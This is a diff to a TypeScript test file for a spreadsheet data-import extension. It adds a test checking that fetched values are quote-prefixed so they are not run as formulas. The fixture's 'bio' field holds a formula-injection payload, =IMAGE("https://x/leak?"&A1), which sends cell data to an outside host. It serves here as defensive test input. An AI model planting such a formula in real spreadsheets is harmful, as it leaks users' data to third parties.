@@ -9,6 +9,7 @@ import { fetchMany } from '../src/engine/fetch';
 import { evaluateFormula } from '../src/engine/formula';
 import { planRow, uniqueCalls } from '../src/engine/rows';
 import { runCalls } from '../src/engine/run';
+import { cellsOf, entered } from '../src/engine/values';
 import { KEY, POSTS, fakeDeps } from './fakes';
 
 const column = (values: unknown[]) => values.map((v) => [v]);
@@ -109,4 +110,13 @@ describe('runs against the injected client and store', () => {
     deps.client.config.apiKey = 'sk_wrong';
     expect(run(deps, 'profile', 'nasa', 'followers')).toBe('Invalid API key. Set it in Extensions > IG Data > Settings. (Not charged.)');
   });
+});
+
+test('a value for a sheet write: every non-empty string quote-prefixed (none in a plain-text cell), ids as text, ISO *_at as dates, numbers as numbers', () => {
+  const item = { id: 17841405, owner_pk: 12, username: '0012345', bio: '=IMAGE("https://x/leak?"&A1)', taken_at: '2026-01-05T10:00:00Z', day: '2026-01-05', followers: 12, ok: true, none: null };
+  const cells = cellsOf(item, ['id', 'owner_pk', 'username', 'bio', 'taken_at', 'day', 'followers', 'ok', 'none']);
+  expect(cells).toEqual(['17841405', '12', '0012345', '=IMAGE("https://x/leak?"&A1)', new Date('2026-01-05T10:00:00Z'), '2026-01-05', 12, true, '']);
+  expect(cells.map((c) => entered(c, false))).toEqual(["'17841405", "'12", "'0012345", '\'=IMAGE("https://x/leak?"&A1)', new Date('2026-01-05T10:00:00Z'), "'2026-01-05", 12, true, '']);
+  expect(entered("'x", false)).toBe("''x");
+  expect(entered('=1+1', true)).toBe('=1+1');
 });
